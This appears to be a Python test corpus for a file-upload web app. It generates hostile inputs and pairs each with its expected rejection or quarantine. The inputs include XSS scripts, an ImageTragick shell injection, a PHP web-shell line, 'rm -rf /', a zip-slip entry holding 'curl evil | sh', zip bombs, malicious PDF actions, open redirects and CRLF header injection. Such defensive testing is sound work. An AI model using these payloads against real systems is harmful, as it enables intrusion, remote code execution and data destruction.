"""The hostile-input corpus: every attack the issue names, as data, each with its exact expected outcome.

A case is an input (an `Upload`: bytes made by a generator here, never a committed binary, pushed
through presign -> PUT -> complete -> scan; or a `Request` to the app) and what must come of it (a
`Scanned` verdict or an `Answer`). tests/test_hostile_corpus.py runs every case end to end;
`python -m tests.hostile_corpus` prints the corpus as a Markdown table.
"""
import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from typing import Any
from urllib.parse import urlencode

from PIL import Image, PngImagePlugin
from pypdf import PdfWriter
from pypdf.actions import JavaScript
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.conftest import PASSWORD, RESOURCES
from webapp.localservices import EICAR

MiB = 1024 * 1024
SCRIPT = b"<script>alert(1)</script>"
HTML_TRAILER = b"<html>" + SCRIPT + b"</html>"
OWNER = "owner@example.com"  # the `user` fixture's account
OMIT = object()  # a JSON key left out of the body


# --- Inputs and outcomes ---

@dataclass(frozen=True)
class Upload:
    """Bytes pushed through the real flow: presign, PUT to storage, complete, one worker run."""

    make: Callable[[], bytes]
    content_type: str
    filename: str = "upload.bin"
    size: int | None = None  # the declared size; None declares the true length
    config: dict = field(default_factory=dict)  # app settings for this case only

    def describe(self):
        return f"uploaded as `{self.content_type}`"


@dataclass(frozen=True)
class Request:
    """One HTTP request, from the owner's signed-in session unless signed_in is False."""

    method: str
    path: str
    json: Any = OMIT
    body: bytes | str | None = None
    content_type: str | None = None
    form: dict | None = None
    headers: dict = field(default_factory=dict)
    signed_in: bool = True
    csrf: str = "own"  # "own" (this session's token), "none", "wrong", or "foreign" (another session's)
    https: bool = False
    with_upload: bool = False  # a pending upload exists first; "<id>" in path is its id

    def describe(self):
        return f"`{self.method} {self.path}`"


@dataclass(frozen=True)
class Scanned:
    """The worker's verdict on uploaded bytes, and what is served afterwards."""

    status: str
    reason: str | None = None
    detected_type: str | None = None  # available: downloaded as an attachment of this type
    preview: bool = False  # available: a PNG preview re-encoded from pixels
    payload: bytes | None = None  # in the upload, never in its preview
    signature: str | None = None  # quarantined: clamd's signature name starts so
    attachment: str | None = None  # available: the exact Content-Disposition of the download

    def describe(self):
        if self.status == "quarantined":
            return f"quarantined `{self.reason}` (`{self.signature}…`), nothing served"
        if self.status != "available":
            return f"{self.status} `{self.reason}`, nothing served, no object left"
        text = f"available, served only as an attachment of type `{self.detected_type}`"
        if self.attachment:
            text += f": `{self.attachment}`"
        if self.preview:
            text += "; preview is a PNG re-encoded from pixels" + (", without the payload" if self.payload else "")
        return text


@dataclass(frozen=True)
class Answer:
    """The app's answer to a request; a refusal (4xx) changes nothing."""

    status: int
    code: str | None = None  # the JSON error code (pages show a readable error instead)
    location: str | None = None  # the redirect target
    filename: str | None = None  # an accepted upload is recorded under this name
    cors_denied: bool = False  # no Access-Control-Allow-* header: the browser never sends the request

    def describe(self):
        if self.location:
            return f"`{self.status}` redirect to `{self.location}`"
        if self.filename:
            name = self.filename if len(self.filename) <= 40 else f"{self.filename[:4]}…{self.filename[-8:]}"
            return f"`{self.status}`, recorded as `{name}` ({len(self.filename.encode())} bytes)"
        if self.cors_denied:
            return f"`{self.status}` without `Access-Control-Allow-*` headers: the browser sends nothing"
        if self.code:
            return f"`{self.status} {self.code}`, nothing written"
        return f"`{self.status}` error page, nothing written"


@dataclass(frozen=True)
class Case:
    """One hostile input, and exactly what must come of it."""

    id: str
    category: str
    what: str
    input: Upload | Request
    expect: Scanned | Answer


def rejected(reason):
    return Scanned("rejected", reason)


def refused(status, code=None):
    return Answer(status, code)


# --- Generators: images ---

def resource(name):
    """A tiny sample file from tests/resources."""
    return (RESOURCES / name).read_bytes()


def png(size=(40, 30), mode="RGB", **save):
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, format="PNG", **save)
    return buffer.getvalue()


def gif(size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("P", size, 3).save(buffer, format="GIF")
    return buffer.getvalue()


def jpeg_with_comment():
    """An 800 x 400 JPEG whose COM segment holds a script."""
    buffer = io.BytesIO()
    Image.new("RGB", (800, 400), (10, 200, 30)).save(buffer, format="JPEG", comment=SCRIPT)
    return buffer.getvalue()


def png_with_text(text=SCRIPT):
    """A PNG with a tEXt chunk holding markup."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text.decode())
    return png(pnginfo=info)


def trailed(name, trailer=HTML_TRAILER):
    """A sample file with bytes appended after its end marker."""
    return resource(name) + trailer


def truncated(name, keep):
    return resource(name)[:keep]


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width, height):
    """A 70-byte PNG whose header claims width x height pixels (a pixel flood)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", zlib.compress(b"\0" * 64)) + _png_chunk(b"IEND", b""))


def gif_claiming(width, height):
    """A 30-byte GIF whose screen and image claim width x height pixels."""
    return (b"GIF89a" + struct.pack("<HHBBB", width, height, 0, 0, 0)
            + b"\x2c" + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00\x3b")


def gifar():
    """A GIF with a Java archive appended: both a valid image and a valid JAR."""
    return gif() + make_zip([("Main.class", b"\xca\xfe\xba\xbe payload")], zipfile.ZIP_STORED)


# --- Generators: archives ---

def make_zip(entries, compression=zipfile.ZIP_DEFLATED):
    """A ZIP of (name, bytes) entries."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries:
            archive.writestr(name, data)
    return buffer.getvalue()


def symlink_zip():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo("link")
        info.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(info, "/etc/passwd")
    return buffer.getvalue()


def bomb(total):
    """A ZIP whose one entry inflates to total bytes of zeros (streamed, never held in memory)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("zeros.bin", "w", force_zip64=True) as entry:
            chunk = b"\0" * MiB
            for _ in range(total // len(chunk)):
                entry.write(chunk)
    return buffer.getvalue()


def many_entries(count):
    return make_zip([(f"f{n}.txt", b"") for n in range(count)], zipfile.ZIP_STORED)


def nested_eicar():
    return make_zip([("eicar.zip", make_zip([("eicar.com", EICAR)]))])


# --- Generators: PDFs ---

def written(mutate=None):
    """A one-page PDF from pypdf, changed by mutate(writer) first."""
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if mutate:
        mutate(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def with_javascript(writer):
    writer.add_open_action(JavaScript("app.alert('hi');"))


def with_launch(writer):
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("calc.exe")})


def with_password(writer):
    writer.encrypt("secret", algorithm="RC4-128")


def obfuscated():
    """An OpenAction whose names are #-escaped (/J#61vaScript), hand-written with a correct xref."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
               b"<< /S /J#61vaScript /#4AS (app.alert(3)) >>"]
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj %s endobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def html_then_pdf():
    """An HTML page with a PDF after it: libmagic and PDF readers both find the PDF."""
    return b"<html><body>" + SCRIPT + b"</body></html>\n" + resource("tiny.pdf")


def constant(data):
    return data


# --- Requests ---

def presign(filename="notes.txt", size=11, content_type="text/plain", **request):
    """POST /api/uploads with a JSON body; OMIT leaves a key out."""
    body = {key: value for key, value in
            (("filename", filename), ("size", size), ("content_type", content_type)) if value is not OMIT}
    return Request("POST", "/api/uploads", json=body, **request)


def raw_presign(body, content_type="application/json", **request):
    """POST /api/uploads with a body sent exactly as given."""
    return Request("POST", "/api/uploads", body=body, content_type=content_type, **request)


def login(next_url):
    """The login form posted with the owner's password and ?next=next_url."""
    return Request("POST", "/auth/login?" + urlencode({"next": next_url}),
                   form={"email": OWNER, "password": PASSWORD}, signed_in=False)


CROSS_SITE = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Referer": "https://evil.example/"}


# --- The corpus ---

def _upload(case_id, category, what, make, content_type, expect, **upload):
    """An upload case; make is a generator, or the bytes themselves."""
    if isinstance(make, bytes):
        make = partial(constant, make)
    return Case(case_id, category, what, Upload(make, content_type, **upload), expect)


def _request(case_id, category, what, request, expect):
    return Case(case_id, category, what, request, expect)


def _name(case_id, what, filename):
    """A presign whose filename must be refused."""
    return _request(case_id, "filename", f"filename: {what}", presign(filename), refused(422, "invalid_filename"))


def _device(case_id, filename, attachment):
    """A text file whose name is a Windows device: available, and downloaded under a safe name."""
    return _upload(case_id, "filename", f"text file named `{filename}`", b"plain words\n",
                   "text/plain", Scanned("available", detected_type="text/plain", attachment=attachment),
                   filename=filename)


def _next(case_id, what, target, location="/files"):
    return _request(case_id, "redirect", what, login(target), Answer(302, location=location))


NOT_ALLOWED = rejected("type_not_allowed")
BIDI = {"202a": "left-to-right embedding", "202b": "right-to-left embedding", "202c": "pop directional formatting",
        "202d": "left-to-right override", "202e": "right-to-left override", "2066": "left-to-right isolate",
        "2067": "right-to-left isolate", "2068": "first strong isolate", "2069": "pop directional isolate"}
PNG, JPEG, GIF, PDF, ZIP, TEXT = \
    "image/png", "image/jpeg", "image/gif", "application/pdf", "application/zip", "text/plain"

CASES = [
    # Markup, programs and other formats posing as allowed types: libmagic has the last word.
    _upload("html-as-png", "disguise", "HTML page with a script",
            b"<!doctype html><html><body>" + SCRIPT + b"</body></html>", PNG, NOT_ALLOWED, filename="cat.png"),
    _upload("svg-script-as-png", "disguise", "SVG with a `<script>` element",
            b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>", PNG, NOT_ALLOWED,
            filename="cat.png"),
    _upload("svg-onload-as-png", "disguise", "SVG with an `onload` handler",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', PNG, NOT_ALLOWED),
    _upload("mvg-as-png", "disguise", "ImageMagick MVG with a shell-injecting `url()` (ImageTragick)",
            b"push graphic-context\nviewbox 0 0 640 480\n"
            b"fill 'url(https://example.com/x.jpg\"|ls \"-la)'\npop graphic-context\n", PNG, NOT_ALLOWED),
    _upload("html-as-text", "disguise", "HTML page", b"<!DOCTYPE html><html><body onload=alert(1)></body></html>",
            TEXT, NOT_ALLOWED),
    _upload("xml-as-text", "disguise", "XML document", b"<?xml version='1.0'?><root><evil/></root>", TEXT,
            NOT_ALLOWED),
    _upload("script-as-text", "disguise", "shell script", b"#!/bin/sh\nrm -rf /\n", TEXT, NOT_ALLOWED),
    _upload("exe-as-pdf", "disguise", "Windows executable (`MZ` header)", b"MZ\x90\x00" + bytes(200), PDF,
            NOT_ALLOWED),
    _upload("png-as-pdf", "disguise", "real PNG", partial(resource, "tiny.png"), PDF, rejected("type_mismatch")),
    _upload("php-in-gif-header", "disguise", "`GIF89a` followed by PHP code", b"GIF89a<?php system($_GET['c']); ?>",
            GIF, rejected("image_corrupt")),
    _request("declared-html", "disguise", "presign declaring `Text/HTML; charset=utf-8`",
             presign("page.html", content_type="Text/HTML; charset=utf-8"), refused(415, "type_not_allowed")),
    _request("declared-svg", "disguise", "presign declaring `image/svg+xml`",
             presign("logo.svg", content_type="image/svg+xml"), refused(415, "type_not_allowed")),

    # Polyglots: valid as the declared type, so they pass, but are only ever downloaded as attachments
    # and previewed as pixels re-encoded to PNG.
    _upload("gifar", "polyglot", "GIF with a JAR appended (GIFAR)", gifar, GIF,
            Scanned("available", detected_type=GIF, preview=True, payload=b"PK\x03\x04")),
    _upload("jpeg-script-comment", "polyglot", "JPEG with `<script>` in its comment segment", jpeg_with_comment, JPEG,
            Scanned("available", detected_type=JPEG, preview=True, payload=SCRIPT)),
    _upload("jpeg-trailing-html", "polyglot", "JPEG with an HTML page after its end marker",
            partial(trailed, "tiny.jpg"), JPEG, Scanned("available", detected_type=JPEG, preview=True, payload=SCRIPT)),
    _upload("png-trailing-html", "polyglot", "PNG with an HTML page after `IEND`", partial(trailed, "tiny.png"), PNG,
            Scanned("available", detected_type=PNG, preview=True, payload=SCRIPT)),
    _upload("png-text-chunk-script", "polyglot", "PNG with `<script>` in a `tEXt` chunk", png_with_text, PNG,
            Scanned("available", detected_type=PNG, preview=True, payload=SCRIPT)),
    _upload("html-pdf", "polyglot", "HTML page with a PDF after it", html_then_pdf, PDF,
            Scanned("available", detected_type=PDF)),

    # PDFs that run something when opened, or cannot be inspected.
    _upload("pdf-openaction-javascript", "pdf", "PDF whose `/OpenAction` runs JavaScript",
            partial(written, with_javascript), PDF, rejected("pdf_active_content")),
    _upload("pdf-launch", "pdf", "PDF whose `/OpenAction` launches `calc.exe`", partial(written, with_launch), PDF,
            rejected("pdf_active_content")),
    _upload("pdf-escaped-names", "pdf", "PDF OpenAction spelled `/J#61vaScript` (clamd's PDF heuristics see it first)",
            obfuscated, PDF, Scanned("quarantined", "malware", signature="Heuristics.PDF.ObfuscatedNameObject")),
    _upload("pdf-encrypted", "pdf", "password-protected PDF (RC4)", partial(written, with_password), PDF,
            rejected("pdf_encrypted")),
    _upload("pdf-garbage", "pdf", "`%PDF-1.4` header and garbage", b"%PDF-1.4\n garbage, not a pdf",
            PDF, rejected("pdf_corrupt")),

    # Archives, judged from the central directory before anything is scanned or extracted.
    _upload("zip-bomb-1gib", "archive", "1 GiB + 1 MiB of zeros deflated to ~1 MB",
            partial(bomb, 1024 * MiB + MiB), ZIP, rejected("zip_too_large_uncompressed")),
    _upload("zip-ratio-bomb", "archive", "200 MiB of zeros deflated ~1000:1", partial(bomb, 200 * MiB), ZIP,
            rejected("zip_compression_ratio")),
    _upload("zip-20000-entries", "archive", "ZIP with 20,000 empty entries", partial(many_entries, 20_000), ZIP,
            rejected("zip_too_many_entries")),
    _upload("zip-slip-dotdot", "archive", "entry `../../home/user/.bashrc` (zip slip)",
            partial(make_zip, [("../../home/user/.bashrc", b"curl evil | sh")]), ZIP, rejected("zip_path_traversal")),
    _upload("zip-symlink", "archive", "symlink entry pointing at `/etc/passwd`", symlink_zip, ZIP,
            rejected("zip_symlink")),
    _upload("zip-nested", "archive", "ZIP inside a ZIP", partial(make_zip, [("inner.zip", make_zip([("a", b"a")]))]),
            ZIP, rejected("zip_nested_archive")),
    _upload("zip-truncated", "archive", "ZIP missing its last 30 bytes",
            lambda: make_zip([("a.txt", b"hello")])[:-30], ZIP, rejected("zip_corrupt")),

    # Malware: clamd with the EICAR test signature.
    _upload("eicar", "malware", "EICAR test string", EICAR, TEXT,
            Scanned("quarantined", "malware", signature="Eicar-Test-Signature"), filename="eicar.txt"),
    _upload("eicar-zipped", "malware", "EICAR inside a ZIP", partial(make_zip, [("eicar.com", EICAR)]), ZIP,
            Scanned("quarantined", "malware", signature="Eicar-Test-Signature"), filename="eicar.zip"),
    _upload("eicar-nested-zip", "malware", "EICAR in a ZIP inside a ZIP", nested_eicar, ZIP,
            rejected("zip_nested_archive")),

    # Images that cannot be decoded safely.
    _upload("pixel-flood-png", "image", "70-byte PNG claiming 65535 x 65535 pixels",
            partial(png_claiming, 65535, 65535), PNG, rejected("image_too_many_pixels")),
    _upload("pixel-flood-gif", "image", "30-byte GIF claiming 65535 x 65535 pixels",
            partial(gif_claiming, 65535, 65535), GIF, rejected("image_too_many_pixels")),
    _upload("truncated-png", "image", "PNG cut after 90 of 140 bytes", partial(truncated, "tiny.png", 90), PNG,
            rejected("image_corrupt")),
    _upload("truncated-jpeg", "image", "JPEG cut in half", partial(truncated, "tiny.jpg", 361), JPEG,
            rejected("image_corrupt")),

    # Sizes: checked when the URL is issued, and again on the stored object.
    _request("size-over-limit", "size", "declared size 10^12 bytes", presign(size=10**12),
             refused(413, "file_too_large")),
    _upload("object-over-limit", "size", "2,048 bytes sent where 1,000 were declared, over a 1 KiB limit",
            b"x" * 2048, TEXT, rejected("too_large"), size=1000,
            config={"MAX_UPLOAD_BYTES": 1024}),
    _upload("more-bytes-than-declared", "size", "30 bytes sent, 10 declared", b"0123456789" * 3,
            TEXT, rejected("size_mismatch"), size=10),
    _request("size-negative", "size", "size -5", presign(size=-5), refused(422, "invalid_size")),
    _request("size-string", "size", 'size `"12"`', presign(size="12"), refused(422, "invalid_size")),
    _request("size-boolean", "size", "size `true` (an int in Python)", presign(size=True),
             refused(422, "invalid_size")),
    _request("size-missing", "size", "no size", presign(size=OMIT), refused(422, "invalid_size")),

    # Malformed JSON bodies.
    _request("json-syntax", "json", "`{not json`", raw_presign("{not json"), refused(400, "invalid_json")),
    _request("json-form-encoded", "json", "form-encoded body", raw_presign(
        "filename=a.txt&size=5", "application/x-www-form-urlencoded"), refused(415, "invalid_json")),
    _request("json-array", "json", "a JSON array", raw_presign('["a.txt", 10]'), refused(400, "invalid_json")),
    _request("json-deep-nesting", "json", "100,000 nested arrays", raw_presign("[" * 100_000),
             refused(400, "invalid_json")),
    _request("json-over-1mib", "json", "2 MiB body", raw_presign("x" * (2 * MiB)), refused(413, "too_large")),

    # CSRF: every state-changing request needs this session's token.
    _request("csrf-missing", "csrf", "presign without a token", presign(csrf="none"), refused(400, "csrf_failed")),
    _request("csrf-wrong", "csrf", "presign with a made-up token", presign(csrf="wrong"), refused(400, "csrf_failed")),
    _request("csrf-other-session", "csrf", "presign with another user's valid token", presign(csrf="foreign"),
             refused(400, "csrf_failed")),
    _request("csrf-delete", "csrf", "deleting an upload without a token", Request(
        "DELETE", "/api/uploads/<id>", csrf="none", with_upload=True), refused(400, "csrf_failed")),
    _request("csrf-logout", "csrf", "logout form without a token", Request("POST", "/auth/logout", csrf="none"),
             refused(400)),
    _request("csrf-login", "csrf", "login form without a token (login CSRF)", Request(
        "POST", "/auth/login", form={"email": OWNER, "password": PASSWORD}, signed_in=False, csrf="none"),
             refused(400)),

    # Cross-site requests: another site can neither send a token nor read an answer.
    _request("cross-site-form", "cross-site", "form POST from another site", Request(
        "POST", "/api/uploads", form={"filename": "a.txt", "size": "5"}, headers=CROSS_SITE, csrf="none"),
             refused(400, "csrf_failed")),
    _request("cross-site-text-plain", "cross-site", "`text/plain` JSON from another site (no preflight)",
             raw_presign('{"filename": "a.txt", "size": 5, "content_type": "text/plain"}', "text/plain",
                         headers={**CROSS_SITE, "Origin": "null"}, csrf="none"), refused(400, "csrf_failed")),
    _request("cross-site-preflight", "cross-site", "CORS preflight from another site", Request(
        "OPTIONS", "/api/uploads", headers={**CROSS_SITE, "Access-Control-Request-Method": "POST",
                                            "Access-Control-Request-Headers": "content-type,x-csrftoken"}),
             Answer(200, cors_denied=True)),
    _request("cross-site-referer-https", "cross-site", "over HTTPS, a valid token but a foreign `Referer`",
             presign(https=True, headers={"Referer": "https://evil.example/"}), refused(400, "csrf_failed")),
    _request("cross-site-no-referer-https", "cross-site", "over HTTPS, a valid token and no `Referer`",
             presign(https=True), refused(400, "csrf_failed")),

    # Open redirects: only same-site relative paths are followed after login.
    _next("next-absolute", "`next=https://evil.example/`", "https://evil.example/"),
    _next("next-protocol-relative", "`next=//evil.example/`", "//evil.example/"),
    _next("next-backslash", "`next=/\\evil.example` (browsers read `\\` as `/`)", "/\\evil.example"),
    _next("next-javascript", "`next=javascript:alert(1)`", "javascript:alert(1)"),
    _next("next-crlf", "`next=/%0D%0ASet-Cookie:…` (header injection)", "/\r\nSet-Cookie: a=b"),
    _next("next-tab", "`next=/%09/evil.example` (browsers drop the tab)", "/\t/evil.example"),
    _next("next-relative", "`next=/files?after=abc` is kept", "/files?after=abc", "/files?after=abc"),

    # Filenames: NFC, no control or format characters, no paths, no hidden or option-like names, 255 bytes.
    _name("name-nul", "NUL", "a\x00.txt"),
    _name("name-crlf", "CR/LF", "a\r\nb.txt"),
    _name("name-tab", "tab", "a\tb.txt"),
    *[_name(f"name-bidi-u{code}", f"U+{code.upper()} {label}", f"invoice{chr(int(code, 16))}gnp.exe")
      for code, label in BIDI.items()],
    _name("name-zero-width", "U+200B zero-width space", "pay\u200bpal.txt"),
    _name("name-dotdot", "`../etc/passwd`", "../etc/passwd"),
    _name("name-backslash", "`dir\\a.txt`", "dir\\a.txt"),
    _name("name-leading-dot", "`.htaccess`", ".htaccess"),
    _name("name-leading-hyphen", "`-rf.txt`", "-rf.txt"),
    _name("name-256-bytes", "128 × `é`: 128 characters, 256 UTF-8 bytes", "é" * 128),
    _request("name-255-bytes", "filename", "251 × `x` + `.txt`: exactly 255 bytes", presign("x" * 251 + ".txt"),
             Answer(201, filename="x" * 251 + ".txt")),
    _request("name-nfc", "filename", "`Cafe` + U+0301 combining accent", presign("Cafe\u0301.txt"),
             Answer(201, filename="Caf\u00e9.txt")),
    _request("name-trailing-dots", "filename", "`notes.txt. . ` (Windows strips these)", presign("notes.txt. . "),
             Answer(201, filename="notes.txt")),
    _device("download-con", "CON.txt", "attachment; filename=\"_CON.txt\"; filename*=UTF-8''_CON.txt"),
    _device("download-lpt-superscript", "LPT\u00b9.txt",
            "attachment; filename=\"_LPT1.txt\"; filename*=UTF-8''_LPT%C2%B9.txt"),
]

#: The attacks the issue asks the corpus to cover, by category.
REQUIRED_CATEGORIES = {"disguise", "polyglot", "pdf", "archive", "malware", "image", "size", "json", "csrf",
                       "cross-site", "redirect", "filename"}


def markdown_table(cases=CASES):
    """The corpus as a Markdown table: id, category, input, expected outcome."""
    def cell(text):
        return text.replace("|", "\\|").replace("\n", " ")

    rows = ["| id | category | input | expected outcome |", "| --- | --- | --- | --- |"]
    for case in cases:
        rows.append(f"| `{case.id}` | {case.category} | {cell(case.what)}, {cell(case.input.describe())} "
                    f"| {cell(case.expect.describe())} |")
    return "\n".join(rows)


if __name__ == "__main__":
    print(markdown_table())
    print(f"\n{len(CASES)} cases.")
